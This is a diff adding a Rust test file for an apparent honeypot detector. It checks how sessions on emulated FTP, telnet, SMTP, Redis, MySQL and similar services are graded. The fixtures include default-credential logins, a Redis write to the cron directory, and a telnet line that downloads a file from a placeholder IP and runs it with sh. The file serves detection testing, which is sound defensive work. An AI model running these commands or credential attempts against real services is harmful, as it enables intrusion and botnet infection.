@@ -1,0 +1,99 @@
+//! What was said to each service, judged as the node judges it: a session's findings must earn the grade they deserve.
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
+use honeymesh_detect::Detector;
+use honeymesh_trap_proto::{Definition, Findings, Flow, Service};
+use honeymesh_types::{Grade, Now, SessionId, Transport, Visit, WallTime};
+use std::collections::BTreeMap;
+
+/// Everything one stranger said to a service in its usual way, as one report.
+fn visit(service: &str, said: &[u8]) -> Visit {
+    let definition = Definition { service: service.into(), ..Definition::default() };
+    let mut session = Service::define(&definition).unwrap().session(7);
+    let mut all = Findings::default();
+    let mut take = |findings: Findings| {
+        all.signs |= findings.signs;
+        all.fields.extend(findings.fields);
+    };
+    let mut answer = Vec::new();
+    let mut flow = session.open(&mut answer);
+    let mut rest = said;
+    while !rest.is_empty() && flow != Flow::Close {
+        let step = session.receive(rest, WallTime(1_795_341_600_000_000), &mut answer);
+        rest = &rest[step.taken..];
+        flow = step.flow;
+        take(session.findings());
+    }
+    session.end();
+    take(session.findings());
+    Visit {
+        at: Now::default(),
+        session: SessionId(1),
+        trap: service.into(),
+        service: service.into(),
+        source: "203.0.113.7:4711".parse().unwrap(),
+        local: "192.0.2.1:99".parse().unwrap(),
+        transport: Transport::Tcp,
+        payload: said.to_vec(),
+        bytes: said.len() as u64,
+        signs: all.signs,
+        fields: all.fields,
+    }
+}
+
+fn judged(service: &str, said: &[u8]) -> (Grade, u8) {
+    let verdict = Detector::new().judge_visit(&visit(service, said));
+    (verdict.grade, verdict.score)
+}
+
+/// The login packet of a MySQL client, with a scramble of twenty bytes.
+const MYSQL_LOGIN: &[u8] = b"\x3b\0\0\x01\0\x82\0\0\0\0\0\0\x21\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0root\0\
+    \x14abcdefghijklmnopqrst\0";
+const POSTGRESQL_LOGIN: &[u8] = b"\0\0\0\x13\0\x03\0\0user\0root\0\0p\0\0\0\x09toor\0";
+
+#[test]
+fn what_was_said_to_a_service_gets_the_grade_it_deserves() {
+    let credentials: [(&str, &[u8]); 9] = [
+        ("ftp", b"USER root\r\nPASS toor\r\n"),
+        ("telnet", b"root\r\nxc3511\r\n"),
+        ("smtp", b"EHLO a\r\nAUTH PLAIN AHJvb3QAdG9vcg==\r\n"),
+        ("pop3", b"USER root\r\nPASS toor\r\n"),
+        ("imap", b"a LOGIN root toor\r\n"),
+        ("redis", b"AUTH hunter2\r\n"),
+        ("mysql", MYSQL_LOGIN),
+        ("postgresql", POSTGRESQL_LOGIN),
+        ("vnc", b"RFB 003.008\n\x02abcdefghijklmnop"),
+    ];
+    for (service, said) in credentials {
+        assert_eq!(judged(service, said), (Grade::Hostile, 40), "{service}: credentials");
+    }
+    let abuse: [(&str, &[u8], u8); 5] = [
+        ("smtp", b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nbuy\r\n.\r\n", 50),
+        ("memcached", b"flush_all\r\n", 50),
+        ("redis", b"EVAL 'return 1' 0\r\n", 50),
+        ("redis", b"CONFIG SET dir /var/spool/cron\r\n", 90),
+        ("telnet", b"a\r\nb\r\na\r\nb\r\ncd /tmp; wget http://198.51.100.9/i; sh i\r\n", 100),
+    ];
+    for (service, said, least) in abuse {
+        let (grade, score) = judged(service, said);
+        assert!(grade == Grade::Hostile && score >= least, "{service}: {grade:?} {score}");
+    }
+}
+
+#[test]
+fn a_look_around_is_a_payload_and_a_connection_a_handshake() {
+    let looks: [(&str, &[u8]); 6] = [
+        ("smtp", b"EHLO a\r\nQUIT\r\n"),
+        ("pop3", b"CAPA\r\nQUIT\r\n"),
+        ("imap", b"a CAPABILITY\r\n"),
+        ("redis", b"PING\r\nINFO\r\n"),
+        ("memcached", b"version\r\nstats\r\n"),
+        ("vnc", b"RFB 003.008\n"),
+    ];
+    for (service, said) in looks {
+        assert_eq!(judged(service, said), (Grade::Payload, 10), "{service}");
+    }
+    let silent: BTreeMap<_, _> =
+        Service::NAMES.into_iter().filter(|name| *name != "script").map(|name| (name, judged(name, b""))).collect();
+    assert!(silent.values().all(|judged| *judged == (Grade::Handshake, 5)), "{silent:?}");
+}
